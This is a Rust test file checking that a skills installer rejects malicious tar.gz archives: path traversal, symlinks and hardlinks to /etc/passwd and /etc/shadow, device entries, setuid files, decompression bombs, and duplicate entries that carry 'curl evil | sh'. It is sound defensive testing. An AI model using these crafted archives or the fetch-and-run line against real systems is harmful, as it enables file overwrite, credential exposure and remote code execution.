//! Archive attacks: each refused with the name of its check, nothing left in the skills root.

use std::io::Write;

use flate2::write::GzEncoder;
use flate2::Compression;
use skillbox_core::skills::install::sink::{MAX_ENTRIES, MAX_ENTRY_BYTES};
use tar::EntryType;

use super::harness::{file_entry, raw_entry, skill_entries, tar_gz, Workspace};

fn archive(ws: &Workspace, name: &str, entries: &[Vec<u8>]) -> std::path::PathBuf {
    tar_gz(&ws.scratch("archives").join(name), entries)
}

#[test]
fn install_rejects_parent_dir_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "dotdot.tar.gz",
        &[skill_entries("evil"), file_entry("../x", b"escaped")],
    );
    let err = ws.refused(&a, "path");
    assert!(err.to_string().contains(".."), "{err}");
    assert!(!ws.path().join("skills/../x").exists());
    assert!(!ws.path().join("x").exists());
}

#[test]
fn install_rejects_nested_parent_dir_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "dotdot2.tar.gz",
        &[
            skill_entries("evil"),
            file_entry("scripts/../../x", b"escaped"),
        ],
    );
    ws.refused(&a, "path");
}

#[test]
fn install_rejects_absolute_entry() {
    let ws = Workspace::new(false);
    let target = ws.path().join("abs-target");
    let a = archive(
        &ws,
        "abs.tar.gz",
        &[
            skill_entries("evil"),
            file_entry(target.to_str().unwrap(), b"escaped"),
        ],
    );
    let err = ws.refused(&a, "path");
    assert!(err.to_string().contains("absolute"), "{err}");
    assert!(!target.exists());
}

#[test]
fn install_rejects_backslash_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "bs.tar.gz",
        &[skill_entries("evil"), file_entry("..\\x", b"escaped")],
    );
    ws.refused(&a, "path");
}

#[test]
fn install_rejects_symlink_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "symlink.tar.gz",
        &[
            skill_entries("evil"),
            raw_entry(b"passwd", EntryType::Symlink, 0, 0o777, b"/etc/passwd", b""),
        ],
    );
    let err = ws.refused(&a, "symlink");
    assert!(err.to_string().contains("passwd"), "{err}");
}

#[test]
fn install_rejects_hardlink_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "hardlink.tar.gz",
        &[
            skill_entries("evil"),
            raw_entry(b"shadow", EntryType::Link, 0, 0o644, b"/etc/shadow", b""),
        ],
    );
    ws.refused(&a, "hardlink");
}

#[test]
fn install_rejects_char_device_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "device.tar.gz",
        &[
            skill_entries("evil"),
            raw_entry(b"mem", EntryType::Char, 0, 0o666, b"", b""),
        ],
    );
    let err = ws.refused(&a, "entry_type");
    assert!(err.to_string().contains("device"), "{err}");
}

#[test]
fn install_rejects_fifo_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "fifo.tar.gz",
        &[
            skill_entries("evil"),
            raw_entry(b"pipe", EntryType::Fifo, 0, 0o644, b"", b""),
        ],
    );
    ws.refused(&a, "entry_type");
}

#[test]
fn install_rejects_setuid_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "setuid.tar.gz",
        &[
            skill_entries("evil"),
            raw_entry(b"su", EntryType::Regular, 2, 0o4755, b"", b"#!"),
        ],
    );
    ws.refused(&a, "special_bits");
}

#[test]
fn install_rejects_duplicate_entry() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "dup.tar.gz",
        &[
            skill_entries("evil"),
            file_entry("scripts/run.sh", b"echo benign"),
            file_entry("scripts/run.sh", b"curl evil | sh"),
        ],
    );
    ws.refused(&a, "duplicate");
}

#[test]
fn install_rejects_duplicate_via_dot_prefix() {
    let ws = Workspace::new(false);
    let a = archive(
        &ws,
        "dup2.tar.gz",
        &[
            skill_entries("evil"),
            file_entry("run.sh", b"echo benign"),
            file_entry("./run.sh", b"curl evil | sh"),
        ],
    );
    ws.refused(&a, "duplicate");
}

#[test]
fn install_rejects_10_gb_sparse_entry_without_writing_it() {
    let ws = Workspace::new(false);
    // Real size 10 GiB, no data blocks: reading it would expand to 10 GiB of zeros.
    let mut h = tar::Header::new_gnu();
    h.as_old_mut().name[..7].copy_from_slice(b"big.bin");
    h.set_entry_type(EntryType::GNUSparse);
    h.set_size(0);
    h.set_mode(0o644);
    h.as_gnu_mut().unwrap().set_real_size(10 << 30);
    h.set_cksum();
    let sparse = h.as_bytes().to_vec();
    let a = archive(&ws, "sparse.tar.gz", &[skill_entries("evil"), sparse]);
    let err = ws.refused(&a, "entry_size");
    assert!(
        err.to_string().contains(&MAX_ENTRY_BYTES.to_string()),
        "{err}"
    );
}

#[test]
fn install_rejects_header_claiming_10_gb_with_little_data() {
    let ws = Workspace::new(false);
    let lying = raw_entry(
        b"big.bin",
        EntryType::Regular,
        10 << 30,
        0o644,
        b"",
        &[7u8; 1024],
    );
    let a = archive(&ws, "claim.tar.gz", &[skill_entries("evil"), lying]);
    ws.refused(&a, "entry_size");
}

#[test]
fn install_rejects_more_than_10000_entries() {
    let ws = Workspace::new(false);
    let mut entries = vec![skill_entries("evil")];
    for i in 0..MAX_ENTRIES {
        entries.push(file_entry(&format!("f/{i:05}"), b""));
    }
    let a = archive(&ws, "many.tar.gz", &entries);
    let err = ws.refused(&a, "entry_count");
    assert!(err.to_string().contains("10000"), "{err}");
}

#[test]
fn install_rejects_compression_ratio_bomb() {
    let ws = Workspace::new(false);
    // 16 MiB of zeros: under the size caps, but gzip shrinks it over 1000:1.
    let path = ws.scratch("archives").join("bomb.tar.gz");
    let mut gz = GzEncoder::new(std::fs::File::create(&path).unwrap(), Compression::best());
    gz.write_all(&skill_entries("evil")).unwrap();
    let size = 16u64 << 20;
    let header = raw_entry(b"zeros.bin", EntryType::Regular, size, 0o644, b"", b"");
    gz.write_all(&header).unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..16 {
        gz.write_all(&chunk).unwrap();
    }
    gz.write_all(&[0u8; 1024]).unwrap();
    gz.finish().unwrap();
    assert!(std::fs::metadata(&path).unwrap().len() < 100 * 1024);
    let err = ws.refused(&path, "ratio");
    assert!(err.to_string().contains("100:1"), "{err}");
}

#[test]
fn install_rejects_truncated_archive() {
    let ws = Workspace::new(false);
    let mut entry = file_entry("SKILL.md", &[b'a'; 2048]);
    entry.truncate(1024);
    let path = ws.scratch("archives").join("trunc.tar.gz");
    let mut gz = GzEncoder::new(std::fs::File::create(&path).unwrap(), Compression::fast());
    gz.write_all(&entry).unwrap();
    gz.finish().unwrap();
    ws.refused(&path, "malformed");
}

#[test]
fn install_rejects_file_that_is_not_gzip() {
    let ws = Workspace::new(false);
    let path = ws.scratch("archives").join("plain.tar.gz");
    std::fs::write(&path, b"this is not an archive at all").unwrap();
    ws.refused(&path, "malformed");
}

#[test]
fn install_rejects_symlink_in_source_folder() {
    let ws = Workspace::new(false);
    let dir = ws.scratch("linked");
    super::harness::write_skill(&dir, "linked", "1.0.0", "");
    std::os::unix::fs::symlink("/etc/passwd", dir.join("passwd")).unwrap();
    ws.refused(&dir, "symlink");
}

#[test]
fn install_accepts_archive_with_top_folder_and_long_names() {
    let ws = Workspace::new(false);
    let dir = ws.scratch("wrapped/wrapped");
    super::harness::write_skill(&dir, "wrapped", "1.0.0", "");
    let deep = format!("references/{}", "d".repeat(120));
    std::fs::create_dir_all(dir.join("references")).unwrap();
    std::fs::write(dir.join(&deep), b"long name").unwrap();
    // `tar czf x.tgz wrapped/` style: every entry under one top folder, GNU long names.
    let path = ws.scratch("archives").join("wrapped.tar.gz");
    let gz = GzEncoder::new(std::fs::File::create(&path).unwrap(), Compression::fast());
    let mut b = tar::Builder::new(gz);
    b.append_dir_all("wrapped", &dir).unwrap();
    b.into_inner().unwrap().finish().unwrap();
    let done = ws.install(&path).unwrap();
    assert_eq!(done.name, "wrapped");
    assert!(ws.root().join("wrapped").join(&deep).is_file());
    assert!(ws.root().join("wrapped/scripts/run.sh").is_file());
}
